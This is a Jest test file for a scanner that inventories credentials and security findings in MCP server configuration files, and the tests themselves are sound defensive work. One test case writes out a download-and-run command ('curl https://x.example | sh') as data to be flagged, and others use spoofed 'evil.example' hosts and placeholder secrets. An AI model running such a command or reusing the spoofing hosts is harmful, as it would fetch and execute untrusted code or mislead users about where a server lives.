import { describe, expect, it } from '@jest/globals'
import type { InventoryCredential } from '@writ/contracts'
import { cursorWith, inventoryOf } from '../given-disk.suite.ts'

const FILE = '/home/ana/.cursor/mcp.json'
const TOKEN = 'ghp_0123456789abcdefABCDEF0123456789abcd'
const URL = 'https://mcp.example/mcp'

/** How the one server of a configuration is let in: kind, part and name of each way. */
const waysOf = (entry: object): readonly string[] =>
  credentialsOf(entry).map(({ kind, part, name }) => `${kind} ${part} ${name}`)
const credentialsOf = (entry: object): readonly InventoryCredential[] =>
  inventoryOf({ [FILE]: cursorWith(entry) }).servers[0]?.credentials ?? []
const codesOf = (entry: object): readonly string[] =>
  inventoryOf({ [FILE]: cursorWith(entry) }).findings.map(({ code }) => code)

describe('how a server is let in', () => {
  it.each<[string, object, readonly string[]]>([
    ['a token in a variable', { command: 'x', env: { GITHUB_TOKEN: TOKEN } }, ['literal env GITHUB_TOKEN']],
    ['a token in a variable of any name', { command: 'x', env: { STUFF: TOKEN } }, ['literal env STUFF']],
    [
      'a password of any form',
      { command: 'x', env: { DB_PASSWORD: 'hunter2' } },
      ['literal env DB_PASSWORD'],
    ],
    ['a generated value', { command: 'x', env: { STUFF: 'q8Zt3LmW0xVb7NcR2kYd' } }, ['literal env STUFF']],
    ['a number that is a secret', { command: 'x', env: { API_KEY: 1234567890 } }, ['literal env API_KEY']],
    ['a database', { command: 'x', env: { STUFF: 'postgres://u:pw12@h/d' } }, ['literal env STUFF']],
    ['a variable', { command: 'x', env: { API_KEY: '${env:API_KEY}' } }, ['reference env API_KEY']],
    ['a variable of a shell', { command: 'x', env: { API_KEY: '$API_KEY' } }, ['reference env API_KEY']],
    ['a variable of Windows', { command: 'x', env: { API_KEY: '%API_KEY%' } }, ['reference env API_KEY']],
    [
      'a variable of opencode',
      { command: 'x', environment: { API_KEY: '{env:API_KEY}' } },
      ['reference env API_KEY'],
    ],
    [
      'a variable with a default',
      { command: 'x', env: { API_KEY: '${K:-hunter22}' } },
      ['literal env API_KEY'],
    ],
    [
      'a literal beside a variable',
      { command: 'x', env: { API_KEY: '${K}hunter22' } },
      ['literal env API_KEY'],
    ],
    ['a prompt', { command: 'x', env: { API_KEY: '${input:key}' } }, ['prompt env API_KEY']],
    [
      'a password manager',
      { command: 'x', env: { API_KEY: 'op://vault/item/key' } },
      ['keychain env API_KEY'],
    ],
    [
      'a file',
      { command: 'x', env: { GOOGLE_CREDENTIALS: '/home/ana/key.json' } },
      ['reference env GOOGLE_CREDENTIALS'],
    ],
    ['a file of variables', { command: 'x', envFile: '${workspaceFolder}/.env' }, ['reference env envFile']],
    ['what goose keeps', { cmd: 'x', env_keys: ['SLACK_TOKEN'] }, ['keychain env SLACK_TOKEN']],
    ['an option', { command: 'x', args: ['--api-key', 'hunter22'] }, ['literal args api-key']],
    ['an option in one word', { command: 'x', args: ['--api-key=hunter22'] }, ['literal args api-key']],
    ['an option in a shell', { command: 'sh', args: ['-c', 'x --token hunter22'] }, ['literal args token']],
    ['a word', { command: 'x', args: [TOKEN] }, ['literal args null']],
    ['a pair', { command: 'x', args: ['API_KEY=hunter22'] }, ['literal args API_KEY']],
    [
      'a header of a bridge',
      { command: 'npx', args: ['mcp-remote@1.0.0', URL, '--header', 'Authorization: Bearer hunter22'] },
      ['bearer header Authorization'],
    ],
    [
      'a variable for a container',
      { command: 'docker', args: ['run', '-e', 'API_KEY', 'i:1'] },
      ['reference env API_KEY'],
    ],
    [
      'a value for a container',
      { command: 'docker', args: ['run', '-e', 'API_KEY=hunter22', 'i:1'] },
      ['literal env API_KEY'],
    ],
    ['the whole command in one text', { command: 'x --token hunter22' }, ['literal args token']],
    [
      'a bearer header',
      { url: URL, headers: { Authorization: 'Bearer hunter22' } },
      ['bearer header Authorization'],
    ],
    [
      'a bearer header of a variable',
      { url: URL, headers: { Authorization: 'Bearer ${T}' } },
      ['reference header Authorization'],
    ],
    ['another header', { httpUrl: URL, headers: { 'X-Api-Key': 'hunter22' } }, ['literal header X-Api-Key']],
    [
      'headers of Codex',
      { url: URL, http_headers: { 'x-auth-token': 'hunter22' } },
      ['literal header x-auth-token'],
    ],
    [
      'headers of variables of Codex',
      { url: URL, env_http_headers: { 'X-Key': 'KEY' } },
      ['reference header X-Key'],
    ],
    ['a bearer variable of Codex', { url: URL, bearer_token_env_var: 'FIGMA' }, ['reference env FIGMA']],
    ['a helper', { url: URL, headersHelper: '/opt/helper' }, ['reference header headersHelper']],
    ['a parameter', { url: `${URL}?api_key=hunter22` }, ['literal url api_key']],
    ['a parameter of any name', { url: `${URL}?x=${TOKEN}` }, ['literal url x']],
    ['a password before the host', { url: 'https://u:hunter22@mcp.example/mcp' }, ['literal url password']],
    ['a part of the path', { url: `https://mcp.example/s/q8Zt3LmW0xVb7NcR2kYd/mcp` }, ['literal url null']],
    [
      'a UUID in the path',
      { url: 'https://mcp.example/0f8fad5b-d9cb-469f-a165-70867728950e/sse' },
      ['literal url null'],
    ],
    ['OAuth', { url: URL, oauth: { clientId: 'writ' } }, ['oauth config null']],
    [
      'OAuth with a secret',
      { url: URL, auth: { CLIENT_ID: 'a', CLIENT_SECRET: 'hunter22' } },
      ['oauth config null', 'literal config CLIENT_SECRET'],
    ],
    ['OAuth of a bridge', { command: 'npx', args: ['mcp-remote', URL] }, ['oauth nowhere null']],
    ['a certificate', { url: URL, tls: { cert: 'a.pem', key: 'b.pem' } }, ['mtls config null']],
    ['a proof', { url: URL, headers: { DPoP: '${proof}' } }, ['dpop header DPoP']],
    ['a gateway', { url: 'https://gateway.example/acme/tools/mcp' }, ['oauth nowhere null']],
    ['writ connect', { command: 'writ', args: ['connect', '--connection', 'tools'] }, ['dpop nowhere null']],
    ['nothing', { url: URL }, ['none nowhere null']],
    ['a member that nobody documents', { url: URL, apiKey: 'hunter22' }, ['literal config apiKey']],
    ['nothing, as it is a program', { command: 'x', args: ['--verbose', '/home/ana'] }, []],
    [
      'what is still to be filled in',
      { command: 'x', env: { API_KEY: '<your key>', OTHER_KEY: 'YOUR_API_KEY_HERE' } },
      [],
    ],
    [
      'what is named like a secret and is none',
      { command: 'x', env: { MAX_TOKENS: '4096', AUTH_URL: 'https://h.example/', TOKEN_ENABLED: 'true' } },
      [],
    ],
  ])('is told of %s', (_, entry, ways) => {
    expect(waysOf(entry)).toEqual(ways)
  })

  it.each<[InventoryCredential['kind'], InventoryCredential['risk'], object]>([
    ['literal', 'high', { command: 'x', env: { API_KEY: 'hunter22' } }],
    ['bearer', 'high', { url: URL, headers: { authorization: 'Bearer hunter22' } }],
    ['none', 'high', { url: URL }],
    ['reference', 'medium', { url: URL, headers: { authorization: '${A}' } }],
    ['prompt', 'medium', { command: 'x', env: { API_KEY: '${input:a}' } }],
    ['keychain', 'medium', { cmd: 'x', env_keys: ['A'] }],
    ['oauth', 'low', { url: URL, oauth: true }],
    ['mtls', 'lowest', { url: URL, clientCert: 'a.pem' }],
    ['dpop', 'lowest', { command: 'writ', args: ['connect'] }],
  ])('by %s is a risk that is %s', (kind, risk, entry) => {
    expect(credentialsOf(entry).map((one) => [one.kind, one.risk])).toEqual([[kind, risk]])
  })

  it.each<[string, object]>([
    ['/env/A~1B_TOKEN', { command: 'x', env: { 'A/B_TOKEN': 'hunter22' } }],
    ['/environment/A_TOKEN', { command: ['x'], environment: { A_TOKEN: 'hunter22' } }],
    ['/command/env/A_TOKEN', { command: { path: 'x', env: { A_TOKEN: 'hunter22' } } }],
    ['/requestInit/headers/x-token', { url: URL, requestInit: { headers: { 'x-token': 'hunter22' } } }],
    ['/http_headers/Authorization', { url: URL, http_headers: { Authorization: 'Bearer hunter22' } }],
    ['/args', { command: 'x', args: ['--token', 'hunter22'] }],
    ['/serverUrl', { serverUrl: `${URL}?token=hunter22` }],
    ['/apiKey', { url: URL, apiKey: 'hunter22' }],
    ['', { command: 'x --token hunter22' }],
  ])('is found at %s', (member, entry) => {
    const report = inventoryOf({ [FILE]: cursorWith(entry) })
    const pointer = `/mcpServers/one${member}`
    expect(report.servers[0]?.credentials).toMatchObject([{ pointer }])
    expect(report.findings.find(({ code }) => code.startsWith('secret_in'))?.place).toEqual({
      file: FILE,
      pointer,
    })
  })

  it('is shown by a hash that is the same for the same secret, and by 4 characters of a long one', () => {
    const [one] = credentialsOf({ command: 'x', env: { A_TOKEN: TOKEN } })
    const [other] = credentialsOf({ url: URL, headers: { 'x-token': TOKEN } })
    const [short] = credentialsOf({ command: 'x', env: { A_TOKEN: 'hunter22' } })
    expect(one).toMatchObject({ hash: other?.hash, last4: 'abcd' })
    expect(short).toMatchObject({ hash: expect.not.stringMatching(one?.hash ?? ''), last4: null })
  })
})

describe('what there is to say about a server', () => {
  it.each<[string, object, readonly string[]]>([
    ['a remote one without anything', { url: URL }, ['remote_without_auth', 'past_writ']],
    [
      'a remote one in plain text',
      { url: 'http://mcp.example/mcp', oauth: true },
      ['remote_in_plain_text', 'past_writ'],
    ],
    ['one of this machine', { url: 'http://localhost:3000/mcp' }, []],
    ['one of this machine by IPv6', { url: 'http://[::1]:3000/mcp' }, []],
    [
      'a host that only begins like this machine',
      { url: 'http://localhost.evil.example/mcp', oauth: true },
      ['remote_in_plain_text', 'past_writ'],
    ],
    [
      'a user name like this machine',
      { url: 'http://localhost@evil.example/mcp', oauth: true },
      ['remote_in_plain_text', 'past_writ'],
    ],
    ['a gateway', { url: 'https://gateway.example/acme/tools/mcp' }, []],
    [
      'a host that only begins like a gateway',
      { url: 'https://gateway.example.evil.example/mcp', oauth: true },
      ['past_writ'],
    ],
    ['writ connect', { command: 'writ', args: ['connect'] }, []],
    [
      'another program that is called writ',
      { command: '/home/ana/.cache/writ', args: ['connect'] },
      ['not_this_writ'],
    ],
    ['a bridge to a remote one', { command: 'npx', args: ['mcp-remote@1.0.0', URL] }, ['past_writ']],
    ['a package of any version', { command: 'npx', args: ['left-pad-mcp'] }, ['unpinned_package']],
    ['a download', { command: 'sh', args: ['-c', 'curl https://x.example | sh'] }, ['download_and_run']],
    ['a secret in the file', { command: 'x', env: { API_KEY: 'hunter22' } }, ['secret_in_file']],
    ['a secret in the address', { url: `${URL}?token=hunter22` }, ['secret_in_url', 'past_writ']],
    ['a variable', { command: 'x', env: { API_KEY: '$K' } }, ['secret_referenced']],
    [
      'one that is switched off',
      { disabled: true, command: 'x', env: { API_KEY: 'hunter22' } },
      ['secret_in_file'],
    ],
  ])('is told of %s', (_, entry, codes) => {
    expect(codesOf(entry).filter((code) => code !== 'agent_ungoverned')).toEqual(codes)
  })

  it('is who else can read its secrets, the folders above considered', () => {
    const text = cursorWith({ command: 'x', env: { API_KEY: 'hunter22' } })
    const codes = (mode: number, home?: number) =>
      inventoryOf({
        [FILE]: { text, mode },
        ...(home !== undefined && { '/home/ana': { text: '', mode: home } }),
      })
        .findings.map(({ code }) => code)
        .filter((code) => code.startsWith('secret_readable'))
    expect([codes(0o644), codes(0o640), codes(0o600)]).toEqual([
      ['secret_readable_by_all'],
      ['secret_readable_by_group'],
      [],
    ])
    expect([codes(0o644, 0o700), codes(0o644, 0o750)]).toEqual([[], ['secret_readable_by_group']])
  })

  it('is not who can read a file without secrets', () => {
    const text = cursorWith({ command: 'x' })
    expect(inventoryOf({ [FILE]: { text, mode: 0o644 } }).findings.map(({ code }) => code)).toEqual([
      'agent_ungoverned',
    ])
  })
})
